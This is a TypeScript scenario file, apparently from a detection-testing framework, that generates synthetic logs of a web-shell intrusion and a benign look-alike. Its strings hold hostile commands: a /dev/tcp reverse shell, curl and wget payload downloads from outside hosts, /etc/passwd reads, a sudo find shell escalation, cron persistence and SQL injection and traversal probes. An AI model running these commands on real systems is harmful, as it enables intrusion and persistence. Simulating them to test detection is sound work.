import { bluff } from "../decoys.ts";
import { connection, logLine, ran, webRequest } from "../emit/wire.ts";
import { intrusion } from "../intrusion.ts";
import { serverWork, visitors } from "../ordinary.ts";
import type { Stage } from "../stage.ts";

/** A web server is given a script through its upload page, and commands are run by it. */
export const webShell = intrusion({
  id: "web-shell",
  trade: "web shell",
  says: "A web application is searched, a script is left behind through its upload, commands are run as the web server, rights are raised and it stays.",
  sources: ["web access log", "linux audit", "linux syslog", "zeek conn"],
  steps: [
    ["searches", "T1595.003", "pages are guessed and tried"],
    ["exploits", "T1190", "the upload is misused"],
    ["shell-used", "T1505.003", "the script is asked to run commands"],
    ["runs-commands", "T1059.004", "the web server starts a shell"],
    ["calls-home", "T1071.001", "a program calls an address outside"],
    ["raises-rights", "T1548.003", "rights are raised"],
    ["stays", "T1053.003", "a scheduled command"],
  ],
  attack(stage) {
    const host = stage.company.serverName("web", 0).toLowerCase();
    visitors(stage);
    serverWork(stage, host);
    const from = stage.outside();
    const agent = stage.by({
      noisy: "sqlmap/1.8.4#stable (https://sqlmap.example)",
      quiet: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:138.0) Gecko/20100101 Firefox/138.0",
      deceptive: "AuthorisedSecurityScan/1.0 (contact ciso)",
    });
    stage.step("searches", () => search(stage, from, agent));
    stage.step("exploits", () =>
      webRequest(stage, stage.at(12), {
        from,
        agent,
        method: "POST",
        path: stage.by({ noisy: "/admin/upload.php?dir=../uploads", quiet: "/profile/picture", deceptive: "/admin/upload.php" }),
        status: stage.by({ noisy: 200, quiet: 302, deceptive: 200 }),
        bytes: 812,
      }),
    );
    useShell(stage, { from, agent, host });
    return [host, "www-data"];
  },
  twin(stage) {
    const host = stage.company.serverName("web", 0).toLowerCase();
    visitors(stage);
    serverWork(stage, host);
    for (let at = 0; at < 40; at++)
      webRequest(stage, stage.at(at * 1.5), { from: `${stage.company.net}.1.70`, agent: "uptime-monitor/2.1", path: "/health" });
    webRequest(stage, stage.at(12), { from: "192.0.2.11", method: "POST", path: "/admin/upload.php", status: 200, bytes: 900 });
    webRequest(stage, stage.at(13), { from: "192.0.2.11", path: "/uploads/catalogue-2026.pdf", status: 200 });
    for (const [at, words] of [
      ["/usr/sbin/apachectl", "configtest"],
      ["systemctl", "reload", "apache2"],
      ["ls", "-la", "/var/www/html/uploads"],
      ["curl", "-s", `https://packages.${stage.company.domain}/site.tar.gz`, "-o", "/srv/deploy/site.tar.gz"],
    ].entries())
      ran(stage, stage.at(20 + at), { host, user: "deploy", words });
    logLine(
      stage,
      stage.at(26),
      host,
      "sudo",
      "deploy : TTY=pts/0 ; PWD=/srv/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload apache2",
    );
    logLine(stage, stage.at(30), host, "crontab", "(deploy) LIST (deploy)");
    connection(stage, stage.at(24), { from: `${stage.company.net}.1.80`, to: "192.0.2.61", port: 443, service: "ssl" });
  },
});

function search(stage: Stage, from: string, agent: string): void {
  const count = stage.by({ noisy: 90, quiet: 6, deceptive: 40 });
  const paths = stage.by({
    noisy: [
      "/index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-",
      "/.env",
      "/backup.zip",
      "/wp-login.php",
      "/phpmyadmin/",
      "/../../etc/passwd",
    ],
    quiet: ["/login", "/register", "/profile", "/profile/picture", "/static/app.js", "/robots.txt"],
    deceptive: ["/.git/config", "/admin/", "/server-status", "/backup.sql", "/authorised-test"],
  });
  for (let at = 0; at < count; at++)
    webRequest(stage, stage.at(at * 0.1), {
      from,
      agent,
      path: paths[at % paths.length]!,
      status: stage.by({ noisy: 404, quiet: 200, deceptive: 404 }),
    });
}

function useShell(stage: Stage, { from, agent, host }: { from: string; agent: string; host: string }): void {
  const script = stage.by({
    noisy: "/uploads/shell.php",
    quiet: "/uploads/2026/05/avatar_4417.php",
    deceptive: "/uploads/security-test.php",
  });
  const commands = stage.by({
    noisy: ["whoami", "id", "uname -a", "cat /etc/passwd", "ls -la /home"],
    quiet: ["id", "ls /srv"],
    deceptive: ["id", `echo ${bluff(stage)}`, "cat /etc/passwd"],
  });
  for (const [at, command] of commands.entries()) {
    const timeMs = stage.at(15 + at * 2);
    stage.step("shell-used", () =>
      webRequest(
        stage,
        timeMs,
        stage.variant === "quiet"
          ? { from, agent, method: "POST", path: script, bytes: 310 }
          : { from, agent, path: `${script}?cmd=${encodeURIComponent(command)}`, bytes: 410 },
      ),
    );
    stage.step("runs-commands", () => {
      ran(stage, timeMs + 200, { host, user: "www-data", uid: 33, words: ["sh", "-c", command], exe: "/usr/bin/dash" });
      ran(stage, timeMs + 260, { host, user: "www-data", uid: 33, words: command.split(" ") });
    });
  }
  stage.step("calls-home", () => {
    const command = stage.by({
      noisy: `bash -i >& /dev/tcp/${stage.outside(1)}/4444 0>&1`,
      quiet: `curl -s https://${stage.outsideName("img")}/p -o /var/tmp/.p`,
      deceptive: `wget -q http://${stage.outside(1)}/authorised-agent -O /tmp/agent`,
    });
    ran(stage, stage.at(28), { host, user: "www-data", uid: 33, words: ["sh", "-c", command], exe: "/usr/bin/dash" });
    ran(stage, stage.at(28) + 90, { host, user: "www-data", uid: 33, words: command.split(" ").slice(0, 6) });
    connection(stage, stage.at(28) + 300, {
      from: `${stage.company.net}.1.80`,
      to: stage.outside(1),
      port: stage.by({ noisy: 4444, quiet: 443, deceptive: 80 }),
      seconds: 600,
    });
  });
  settleIn(stage, host);
}

function settleIn(stage: Stage, host: string): void {
  stage.step("raises-rights", () => {
    if (stage.variant === "quiet")
      ran(stage, stage.at(36), {
        host,
        user: "www-data",
        uid: 33,
        as: 0,
        words: ["sudo", "-n", "/usr/bin/find", ".", "-exec", "/bin/sh", ";", "-quit"],
      });
    else logLine(stage, stage.at(36), host, "sudo", "www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/bin/bash");
  });
  stage.step("stays", () => {
    ran(stage, stage.at(40), {
      host,
      user: "root",
      uid: 33,
      as: 0,
      words: stage.by({
        noisy: ["sh", "-c", "(crontab -l; echo '* * * * * /tmp/.x') | crontab -"],
        quiet: ["cp", "/var/tmp/.p", "/etc/cron.hourly/logrotate2"],
        deceptive: ["sh", "-c", "echo '*/5 * * * * root /tmp/agent # authorised test' >> /etc/cron.d/test"],
      }),
    });
    logLine(stage, stage.at(40) + 400, host, "crontab", "(root) REPLACE (root)");
  });
}
